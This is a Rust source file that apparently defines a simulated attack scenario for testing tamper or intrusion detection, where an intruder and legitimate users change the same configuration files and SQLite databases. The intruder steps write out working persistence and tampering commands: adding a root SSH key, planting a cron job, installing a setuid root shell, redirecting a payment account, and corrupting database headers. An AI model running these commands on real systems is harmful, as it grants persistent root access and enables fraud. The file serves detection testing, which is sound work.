// SPDX-License-Identifier: Apache-2.0
//! An intruder who became root and people of the house work in the same files: in the same line, in different lines, in a
//! database that is written all the time, and in one that nobody else writes any more.

use super::persistence::{people, somewhere, weakness};
use super::{Actor, Material, Names, Plan, Scenario, Step, pace, public_key, step, units};
use crate::contest::Contest;
use crate::random::Random;
use std::time::Duration;

pub(super) const SCENARIO: Scenario = Scenario {
    name: "mixed",
    about: "an intruder and people of the house change the same line, the same file and the same database",
    benign: false,
    plan,
};

/// Both change the same line.
const SAME_LINE: &str = "/etc/shop/limits.conf";
/// Each changes another line.
const OTHER_LINE: &str = "/etc/shop/tax.conf";
/// Bob's program writes to it all the time.
const ORDERS: &str = "/home/bob/orders.db";
/// Made by the administrator, and his work with it is done.
const PRICES: &str = "/srv/shop/prices.db";
const KEYS: &str = "/root/.ssh/authorized_keys";
/// Bob's rows, five a second at most: some twenty seconds, so that he writes before, during and after the attack.
const ROWS: u32 = 100;

fn plan(random: &mut Random, _: Material<'_>) -> Plan {
    let mut names = Names::new(random);
    let (weak, escalation) = weakness(random, &mut names, "alice");
    let mut units = units();
    let [was, theirs, ours] = [(3, 9), (60, 99), (10, 19)].map(|(from, to)| random.between(from, to));
    let limits = format!("# what a customer may do\norders = 20\ndiscount = {was}\ncredit = 100\n");
    let tax = format!("rate = 19\nround = up\nreport = monthly\naccount = {}\n", random.word(16));

    let mut between = people(random, &mut names, &mut units);
    random.shuffle(&mut between);
    let mut benign = vec![
        step(
            Actor::Ops,
            "the administrator makes a database of prices",
            format!(
                "sudo mkdir -p /srv/shop && sudo sqlite3 {PRICES} 'create table prices(item text, cents integer); \
                 insert into prices values (\"lamp\", 1990), (\"chair\", 4990);'"
            ),
            &[PRICES],
        ),
        step(
            Actor::Bob,
            "bob's program begins to take orders",
            // One connection all the time: the log beside the database stays in use.
            format!(
                "sqlite3 {ORDERS} 'pragma journal_mode=wal; create table orders(number integer primary key, who text, cents integer); \
                 insert into orders values (1, \"first\", 4990);' >/dev/null && \
                 {{ (n=0; echo .timeout 5000; while [ $n -lt {ROWS} ]; do n=$((n+1)); \
                 echo \"insert into orders(who, cents) values ('bob', $n);\"; sleep 0.2; done) | sqlite3 {ORDERS} >/dev/null 2>&1 & }}"
            ),
            &[],
        ),
        // Whom nobody attacks waits in vain, and not for long.
        step(
            Actor::Ops,
            "the administrator sets the discount",
            format!(
                "for n in $(seq 100); do grep -q '^discount = {theirs}$' {SAME_LINE} && break; sleep 0.1; done; \
                 sudo sed -i 's/^discount = .*/discount = {ours}/' {SAME_LINE}"
            ),
            &[SAME_LINE],
        ),
        step(
            Actor::Ops,
            "the administrator sets the tax",
            format!("sudo sed -i 's/^rate = .*/rate = {}/' {OTHER_LINE}", random.between(20, 25)),
            &[OTHER_LINE],
        ),
    ];
    benign.extend(between);
    pace(&mut benign, random, 300);
    benign.push(step(Actor::Bob, "bob's program has taken all orders", "wait", &[]));

    let (job, shell) = (format!("/etc/cron.d/{}", names.take()), format!("/usr/local/bin/{}", names.take()));
    let deed = |technique, title: &str, script: String, paths: &[&str]| Step {
        technique: Some(technique),
        pause: Duration::from_millis(150),
        ..step(Actor::Intruder, title, script, paths)
    };
    let attack_user = vec![deed(
        "T1083",
        "the intruder looks who works here",
        format!("for n in $(seq 80); do [ -e {PRICES} ] && [ -e {ORDERS} ] && break; sleep 0.1; done; sudo -n -l"),
        &[],
    )];
    let attack_root = vec![
        deed(
            "T1565.001",
            "the intruder alters an order",
            format!("sqlite3 {ORDERS} '.timeout 5000' 'update orders set cents = 1 where number = 1;'"),
            &[],
        ),
        deed(
            "T1565.001",
            "the intruder writes into the database itself",
            // The application's number, in the header: what a checkpoint may write over.
            format!("printf '\\276\\357\\276\\357' | dd of={ORDERS} bs=1 seek=68 conv=notrunc 2>/dev/null"),
            &[ORDERS],
        ),
        deed(
            "T1565.001",
            "the intruder alters all prices, and leaves the log of that",
            format!(
                "sqlite3 {PRICES} <<'SQL' >/dev/null 2>&1\npragma journal_mode=wal;\nupdate prices set cents = 1;\n.shell kill -9 $PPID\nSQL\ntrue"
            ),
            &[PRICES, &format!("{PRICES}-wal"), &format!("{PRICES}-shm")],
        ),
        deed(
            "T1565.001",
            "the intruder has money sent elsewhere",
            format!("sed -i 's/^account = .*/account = {}/' {OTHER_LINE}", random.word(16)),
            &[OTHER_LINE],
        ),
        deed(
            "T1565.001",
            "the intruder sets a discount",
            format!("sed -i 's/^discount = .*/discount = {theirs}/' {SAME_LINE}"),
            &[SAME_LINE],
        ),
        deed(
            "T1098.004",
            "the intruder waits for the administrator, and gives a key to root",
            format!(
                "for n in $(seq 60); do grep -q '^discount = {ours}$' {SAME_LINE} && break; sleep 0.1; done; sleep 1; \
                 mkdir -p /root/.ssh; echo '{}' >>{KEYS}",
                public_key(random, &names.take())
            ),
            &[KEYS],
        ),
        deed(
            "T1053.003",
            "the intruder plants a job",
            format!("echo '* * * * * root {shell} -p -c true' >{job}"),
            &[&job],
        ),
        deed(
            "T1548.001",
            "the intruder leaves a shell that makes anybody root",
            format!("install -m 4755 /bin/dash {shell}"),
            &[&shell],
        ),
    ];
    Plan {
        planted: vec![weak, (SAME_LINE.to_owned(), limits.clone(), 0o644, 0), (OTHER_LINE.to_owned(), tax, 0o644, 0)],
        decoys: true,
        escalation,
        source: somewhere(random),
        benign,
        attack_user,
        attack_root,
        units,
        contest: Some(Contest { text: SAME_LINE.to_owned(), was: limits, database: ORDERS.to_owned(), rows: ROWS }),
        ..Plan::default()
    }
}
